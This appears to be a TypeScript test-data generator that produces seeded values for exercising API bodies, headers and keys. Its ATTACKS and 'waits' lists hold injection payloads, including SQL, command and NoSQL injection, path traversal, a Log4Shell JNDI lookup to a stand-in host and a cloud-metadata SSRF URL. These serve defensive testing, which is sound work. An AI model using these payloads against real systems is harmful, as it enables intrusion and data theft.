/** Values for made calls, by what they mean to the steps that read them; no test of its own. */

/** A whole number from 0 to below `n`. */
export type Random = (n: number) => number;

/** The same numbers for the same seed (mulberry32), so that a call is made again from one number. */
export function randomOf(seed: number): Random {
  let state = seed >>> 0;
  return (n) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return Math.floor((((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32) * n);
  };
}

export function pick<T>(random: Random, items: readonly [T, ...T[]]): T {
  return items[random(items.length)] ?? items[0];
}

/** True once in `n`; never for 0. */
export function once(random: Random, n: number): boolean {
  return n > 0 && random(n) === 0;
}

export function words(text: string): [string, ...string[]] {
  const [first = '', ...others] = text.split(' ');
  return [first, ...others];
}

/** A JSON value as it is written. */
export type Written = (random: Random) => string;

const text = (value: string): string => JSON.stringify(value);
const oneOf =
  (...values: readonly [string, ...string[]]): Written =>
  (random) =>
    pick(random, values);
const texts =
  (...values: readonly [string, ...string[]]): Written =>
  (random) =>
    text(pick(random, values));
const hex = (random: Random, length: number): string =>
  Array.from({ length }, () => random(16).toString(16)).join('');
const digits = (random: Random, length: number): string =>
  Array.from({ length }, (_, at) => (at === 0 ? 1 + random(9) : random(10))).join('');

export function uuid(random: Random): string {
  return [8, 4, 4, 4, 12].map((length) => hex(random, length)).join('-');
}

function base64url(value: object): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url');
}

/** Of `START_MS` or so: how long a token without a time of issue lives depends on the time of the call. */
const AROUND_S = Math.floor(Date.UTC(2026, 9, 2) / 1000);

export function jwt(random: Random, kind = random(5)): string {
  const claims: Record<string, string | number> = { sub: `u${random(4)}` };
  if (kind > 0) claims['exp'] = AROUND_S + pick(random, [0, 85_000, 86_400, 90_000, 9_000_000]);
  if (kind > 2) claims['iat'] = AROUND_S - random(3) * 3600;
  if (kind === 4) claims['iss'] = 'https://id.shop.example';
  const header = pick<object>(random, [
    { alg: 'RS256', kid: 'a' },
    { alg: 'none' },
    { alg: 'HS256', typ: 'JWT' },
  ]);
  return `${base64url(header)}.${base64url(claims)}.${pick(random, ['', 'c2ln', 'c2lnbmF0dXJl'])}`;
}

const TRACES = [
  'TypeError: x is not a function\n    at Orders.find (/app/src/orders.js:10:5)',
  'java.lang.NullPointerException: x\n\tat com.shop.Orders.find(Orders.java:42)',
  'You have an error in your SQL syntax near 7',
  'nginx/1.18.0',
] as const;

export const ATTACKS = [
  "1' or '1'='1",
  "x'; waitfor delay '0:0:5'--",
  '1 union select a, b from users',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  ';cat /etc/passwd',
  '{{7*7}}',
  '${jndi:ldap://a.example/x}',
  'http://169.254.169.254/latest/meta-data/',
  'a\r\nset-cookie: sid=1',
  'a\r\nx-owner: yes',
  '{"name":{"$ne":null}}',
  'a=1&password[$ne]=2',
  "' || this.a == 1 || '",
  'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
] as const;

/** What a value at one place of a body is drawn from. */
export const THEMES = {
  states: texts('active', 'paid', 'shipped', 'cancelled', 'EUR', 'IN_TRANSIT', ''),
  manyStates: texts(
    ...words(
      'active pending paid failed open closed new draft sent done queued ready live sold void lost hold gold silver basic ' +
        'pro daily weekly monthly yearly visa amex wire cash card credit debit north south east west red blue',
    ),
  ),
  sealed: texts(
    'Zorgblat',
    'h264',
    'v1',
    'P0 - Critical',
    'männlich',
    '11-50',
    'C++',
    'A4',
    'text/x-a',
    '-name',
  ),
  sentences: texts('Leave it at the door.', 'Two for 12.50 EUR, please!', 'x'.repeat(41), 'call me maybe'),
  dates: texts(
    '2026-10-01',
    '2026-02-30',
    '2026-10-01T22:00:00Z',
    '2026-10-01T25:00:00Z',
    '22:15:00',
    '0000-00-00',
  ),
  formats: texts(
    'https://shop.example/a',
    '192.0.2.7',
    '2001:db8::1',
    'aGVsbG8gd29ybGQsIGhlbGxv',
    'aGVsbG8gd29ybGQsIGhlbGxvbw==',
    'urn:a:b',
    '1.2.3.4.5',
    'a'.repeat(4097),
  ),
  uuids: (random) => text(uuid(random)),
  ids: (random) => text(`ord_${hex(random, 12)}`),
  numberTexts: (random) =>
    text(pick(random, ['1', '007', '4.50', '-3', digits(random, 9), digits(random, 16)])),
  emails: (random) => text(`${pick(random, ['ada', 'grace', 'x'])}${random(30)}@mail.example`),
  cards: (random) =>
    pick(random, [
      '"4111111111111111"',
      '"4111 1111 1111 1111"',
      '"4012888888881881"',
      '"4111111111111112"',
      '4111111111111111',
      `"${digits(random, 16)}"`,
      '"my card is 4111 1111 1111 1111, thanks"',
    ]),
  people: texts('Ada Lovelace', 'Grace', 'Hopper, Grace', 'J. Doe', 'n/a', 'ACME Ltd', 'Ada%20Lovelace'),
  personal: texts(
    '+1 202 555 0143',
    '219-09-9999',
    'GB82WEST12345698765432',
    'GB82WEST12345698765433',
    '1984-05-01',
    'mail ada@mail.example or grace@mail.example',
    'ssn: 219-09-9999',
    '12 High Street',
    'Fødselsnummer 01010112345',
  ),
  secrets: (random) =>
    text(
      pick(random, [
        jwt(random),
        `AKIA${'IOSFODNN7EXAMPLE'}`,
        '-----BEGIN PRIVATE KEY-----',
        'hunter2!',
        `tok_${hex(random, 24)}`,
        'Bearer ***',
        '1234',
      ]),
    ),
  masks: texts('***', '[REDACTED]', 'xxxx', '4111********1111', 'Bearer [FILTERED]', ''),
  small: (random) => String(random(pick(random, [2, 12, 2000]))),
  large: (random) =>
    pick(random, [
      '99999999',
      '100000000',
      '2147483647',
      '2147483648',
      '-2147483649',
      '9007199254740993',
      '9223372036854775808',
      '10000000000000000000',
      digits(random, 10),
    ]),
  fractions: oneOf(
    '0.5',
    '1.0',
    '12.5',
    '-0',
    '-0.0',
    '0',
    '1e3',
    '1E-7',
    '1e400',
    '-1e400',
    '123456789.25',
    '1e15',
  ),
  epochs: (random) => String(1_790_812_800_000 + random(1e9)),
  booleans: oneOf('true', 'false'),
  nulls: oneOf('null', 'null', '1', '"a"', 'true', '""'),
  kinds: oneOf('null', '1', '"a"', '[]', '{}', '[1]', '{"a":1}', '[null]'),
  escapes: oneOf(
    '"\\u0061ctive"',
    '"a\\/b"',
    '"\\ud83d\\ude00"',
    '"\\ud800"',
    '"😀"',
    '"a\\u0000b"',
    '"\u2028"',
    '"\\u003cb\\u003e"',
    '"tab\\t"',
  ),
  waits: texts("x'; waitfor delay '0:0:5'--", '1; select pg_sleep(5)', "1' and sleep(5)#", ';sleep 5'),
  attacks: (random) => text(pick(random, ATTACKS)),
  traces: (random) => text(pick(random, TRACES)),
  rareTraces: (random) => text(once(random, 12) ? pick(random, TRACES) : `Order ${random(9)} is gone`),
  rareAttacks: (random) => text(once(random, 12) ? pick(random, ATTACKS) : `o'shoe ${random(9)}`),
  documents: texts(
    '{ cart { id } }',
    'query Cart { cart { id } }',
    'mutation { pay(id: 1) { ok } }',
    'shoes',
    'query',
    '',
  ),
  versions: oneOf('"2.0"', '"2.0"', '"2.0"', '"1.0"', '2'),
  procedures: texts('orders.get', 'orders.list', 'pay', 'user.ada@mail.example', '', 'x'.repeat(130)),
  long: (random) => text(pick(random, ['ab ', 'a1', 'Q']).repeat(1 + random(400))),
} satisfies Record<string, Written>;

export type Theme = keyof typeof THEMES;

export const THEME_NAMES = Object.keys(THEMES) as [Theme, ...Theme[]];

/** A value as a query, a header or a cookie has it. */
export function plainText(theme: Theme, random: Random): string {
  const written = THEMES[theme](random);
  if (!written.startsWith('"')) return written;
  const value: unknown = JSON.parse(written);
  return typeof value === 'string' ? value : written;
}

/** Names of members: words, people's nouns, values, and those that parsers and objects treat in their own way. */
export const KEYS: readonly [string, ...string[]] = [
  ...words(
    'id name email status customer card number total items tags created_at password token type data user users ' +
      'patient firstName notes amount currency country role price address phone ssn iban dob errors error trace ' +
      'query method jsonrpc params variables operationName extensions result username pin api_key grant_type jwt ' +
      '$ref @type _id a b c d e f EUR USD GBP en de fr sv filter key value session_id customerType attributes ' +
      '__proto__ constructor toString hasOwnProperty length 0 1 12 007 -1 10042 2026-10-01 $ne $gt $where $regex',
  ),
  "it's",
  '<b>',
  'a b',
  'Ünï',
  '',
  'First Name',
  'x'.repeat(70),
  'ada@mail.example',
  '4111111111111111',
  '${a}',
];

/** Names that are never the same twice, and look it. */
export function dynamicKey(random: Random): string {
  return pick(random, [
    String(random(100_000)),
    uuid(random),
    `ord_${hex(random, 12)}`,
    `2026-10-${10 + random(20)}`,
  ]);
}

/** Names that look like names, and come without end. */
export function endlessKey(random: Random): string {
  return `${pick(random, ['red', 'blue', 'left', 'right', 'north', 'old'])}${pick(random, ['Shoe', 'Hat', 'Coat', 'Sock'])}${pick(random, ['', 'A', 'B', 'C', 'D', 'E', 'F', 'G', 'H', 'I'])}`;
}
